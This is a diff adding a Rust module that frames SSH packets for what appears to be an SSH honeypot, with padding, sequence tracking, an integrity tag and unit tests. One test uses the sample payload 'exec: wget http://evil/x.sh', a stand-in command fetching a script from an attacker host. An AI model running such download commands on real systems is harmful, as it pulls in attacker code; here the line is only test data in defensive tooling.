@@ -1,0 +1,233 @@
+//! Binary Packet Protocol framing (RFC 4253 §6).
+//!
+//! Layout: `uint32 packet_length ‖ byte padding_length ‖ payload ‖ padding`
+//! where `packet_length = 1 + len(payload) + len(padding)` and the total
+//! size `4 + packet_length` is a multiple of the cipher block size (8 for
+//! the "none" cipher). Padding is 4–255 bytes.
+//!
+//! After `SSH_MSG_NEWKEYS`, packets additionally carry a 16-byte integrity
+//! tag: `SHA-256(session_key ‖ seq ‖ packet)[..16]`. Real SSH would encrypt
+//! too; the honeypot deliberately does not (see crate docs).
+
+use crate::SshError;
+use bytes::{Buf, BufMut, Bytes, BytesMut};
+use hutil::Sha256;
+
+/// Block granularity for the "none" cipher.
+const BLOCK: usize = 8;
+/// Minimum padding per RFC 4253.
+const MIN_PAD: usize = 4;
+/// Integrity tag length once keys are in effect.
+pub const TAG_LEN: usize = 16;
+/// Upper bound we accept for a single packet (RFC minimum requirement is
+/// 35000; bots never legitimately exceed it).
+pub const MAX_PACKET: usize = 35_000;
+
+/// Framer/deframer for one direction of a connection.
+///
+/// Tracks the implicit packet sequence number and, once
+/// [`PacketCodec::enable_integrity`] is called (on NEWKEYS), appends and
+/// verifies tags.
+#[derive(Debug, Clone)]
+pub struct PacketCodec {
+    seq: u32,
+    key: Option<[u8; 32]>,
+}
+
+impl Default for PacketCodec {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+impl PacketCodec {
+    /// A codec in the initial (no integrity) state.
+    pub fn new() -> Self {
+        Self { seq: 0, key: None }
+    }
+
+    /// Switches on integrity tagging with the given session key. Applies to
+    /// packets *after* this call, mirroring NEWKEYS semantics.
+    pub fn enable_integrity(&mut self, key: [u8; 32]) {
+        self.key = Some(key);
+    }
+
+    /// Current sequence number (next packet to be sealed/opened).
+    pub fn seq(&self) -> u32 {
+        self.seq
+    }
+
+    /// Frames `payload` into a wire packet, advancing the sequence number.
+    pub fn seal(&mut self, payload: &[u8]) -> Bytes {
+        assert!(payload.len() <= MAX_PACKET, "payload too large");
+        // Choose padding so that 4 + 1 + payload + pad ≡ 0 (mod BLOCK).
+        let unpadded = 4 + 1 + payload.len();
+        let mut pad = BLOCK - (unpadded % BLOCK);
+        while pad < MIN_PAD {
+            pad += BLOCK;
+        }
+        let packet_length = (1 + payload.len() + pad) as u32;
+        let mut out = BytesMut::with_capacity(4 + packet_length as usize + TAG_LEN);
+        out.put_u32(packet_length);
+        out.put_u8(pad as u8);
+        out.put_slice(payload);
+        // Deterministic padding: a fixed rotating pattern keyed by seq. Real
+        // implementations use random bytes; determinism aids replay tests
+        // and the bytes are never interpreted.
+        for i in 0..pad {
+            out.put_u8((self.seq as usize + i) as u8);
+        }
+        if let Some(key) = &self.key {
+            let tag = integrity_tag(key, self.seq, &out);
+            out.put_slice(&tag);
+        }
+        self.seq = self.seq.wrapping_add(1);
+        out.freeze()
+    }
+
+    /// Attempts to extract one packet from the front of `buf`.
+    ///
+    /// Returns `Ok(Some(payload))` and consumes the packet bytes on
+    /// success; `Ok(None)` if `buf` does not yet hold a complete packet;
+    /// `Err` on malformed framing or a bad tag.
+    pub fn open(&mut self, buf: &mut BytesMut) -> Result<Option<Bytes>, SshError> {
+        if buf.len() < 5 {
+            return Ok(None);
+        }
+        let packet_length = u32::from_be_bytes([buf[0], buf[1], buf[2], buf[3]]) as usize;
+        if packet_length < 1 + MIN_PAD || packet_length > MAX_PACKET {
+            return Err(SshError::Framing(format!("bad packet length {packet_length}")));
+        }
+        if (4 + packet_length) % BLOCK != 0 {
+            return Err(SshError::Framing("packet not block-aligned".into()));
+        }
+        let tag_len = if self.key.is_some() { TAG_LEN } else { 0 };
+        let total = 4 + packet_length + tag_len;
+        if buf.len() < total {
+            return Ok(None);
+        }
+        let pad = buf[4] as usize;
+        if pad < MIN_PAD || pad + 1 > packet_length {
+            return Err(SshError::Framing(format!("bad padding length {pad}")));
+        }
+        if let Some(key) = &self.key {
+            let body = &buf[..4 + packet_length];
+            let want = integrity_tag(key, self.seq, body);
+            let got = &buf[4 + packet_length..total];
+            if got != want {
+                return Err(SshError::Framing("integrity tag mismatch".into()));
+            }
+        }
+        let mut packet = buf.split_to(total);
+        packet.advance(5);
+        let payload_len = packet_length - 1 - pad;
+        let payload = packet.split_to(payload_len).freeze();
+        self.seq = self.seq.wrapping_add(1);
+        Ok(Some(payload))
+    }
+}
+
+fn integrity_tag(key: &[u8; 32], seq: u32, packet: &[u8]) -> [u8; TAG_LEN] {
+    let mut h = Sha256::new();
+    h.update(key);
+    h.update(&seq.to_be_bytes());
+    h.update(packet);
+    let full = h.finalize();
+    let mut tag = [0u8; TAG_LEN];
+    tag.copy_from_slice(&full[..TAG_LEN]);
+    tag
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn roundtrip_various_sizes() {
+        let mut tx = PacketCodec::new();
+        let mut rx = PacketCodec::new();
+        for n in [0usize, 1, 7, 8, 9, 255, 256, 1000] {
+            let payload: Vec<u8> = (0..n).map(|i| i as u8).collect();
+            let wire = tx.seal(&payload);
+            assert_eq!((wire.len()) % BLOCK, 0, "wire not block aligned for n={n}");
+            let mut buf = BytesMut::from(&wire[..]);
+            let got = rx.open(&mut buf).unwrap().expect("complete packet");
+            assert_eq!(&got[..], &payload[..]);
+            assert!(buf.is_empty());
+        }
+    }
+
+    #[test]
+    fn partial_input_returns_none_without_consuming() {
+        let mut tx = PacketCodec::new();
+        let wire = tx.seal(b"hello world");
+        let mut rx = PacketCodec::new();
+        for cut in 0..wire.len() {
+            let mut buf = BytesMut::from(&wire[..cut]);
+            assert_eq!(rx.clone().open(&mut buf).unwrap(), None, "cut={cut}");
+            assert_eq!(buf.len(), cut, "must not consume partial packet");
+        }
+    }
+
+    #[test]
+    fn multiple_packets_in_one_buffer() {
+        let mut tx = PacketCodec::new();
+        let mut buf = BytesMut::new();
+        buf.extend_from_slice(&tx.seal(b"one"));
+        buf.extend_from_slice(&tx.seal(b"two"));
+        let mut rx = PacketCodec::new();
+        assert_eq!(&rx.open(&mut buf).unwrap().unwrap()[..], b"one");
+        assert_eq!(&rx.open(&mut buf).unwrap().unwrap()[..], b"two");
+        assert_eq!(rx.open(&mut buf).unwrap(), None);
+    }
+
+    #[test]
+    fn integrity_tag_detects_flips() {
+        let key = [7u8; 32];
+        let mut tx = PacketCodec::new();
+        tx.enable_integrity(key);
+        let wire = tx.seal(b"exec: wget http://evil/x.sh");
+        let mut rx = PacketCodec::new();
+        rx.enable_integrity(key);
+        // Pristine copy opens fine.
+        let mut ok = BytesMut::from(&wire[..]);
+        assert!(rx.clone().open(&mut ok).unwrap().is_some());
+        // Any single bit flip in the body is caught.
+        for i in [5usize, 10, wire.len() - TAG_LEN - 1] {
+            let mut bad = BytesMut::from(&wire[..]);
+            bad[i] ^= 1;
+            assert!(
+                matches!(rx.clone().open(&mut bad), Err(SshError::Framing(_))),
+                "flip at {i} not caught"
+            );
+        }
+    }
+
+    #[test]
+    fn integrity_requires_matching_seq() {
+        let key = [1u8; 32];
+        let mut tx = PacketCodec::new();
+        tx.enable_integrity(key);
+        let _skip = tx.seal(b"first");
+        let second = tx.seal(b"second");
+        let mut rx = PacketCodec::new();
+        rx.enable_integrity(key);
+        // rx is at seq 0 but the packet was sealed at seq 1 → replay detected.
+        let mut buf = BytesMut::from(&second[..]);
+        assert!(matches!(rx.open(&mut buf), Err(SshError::Framing(_))));
+    }
+
+    #[test]
+    fn rejects_hostile_lengths() {
+        let mut rx = PacketCodec::new();
+        // Absurd length field.
+        let mut buf = BytesMut::from(&[0xff, 0xff, 0xff, 0xff, 0x04, 0, 0, 0][..]);
+        assert!(matches!(rx.open(&mut buf), Err(SshError::Framing(_))));
+        // Padding claims more than the packet holds.
+        let mut tx = PacketCodec::new();
+        let wire = tx.seal(b"x");
+        let mut evil = BytesMut::from(&wire[..]);
+        evil[4] = 0xff;
+        assert!(matches!(rx.open(&mut evil), Err(SshError::Framing(_))));
+    }
+}
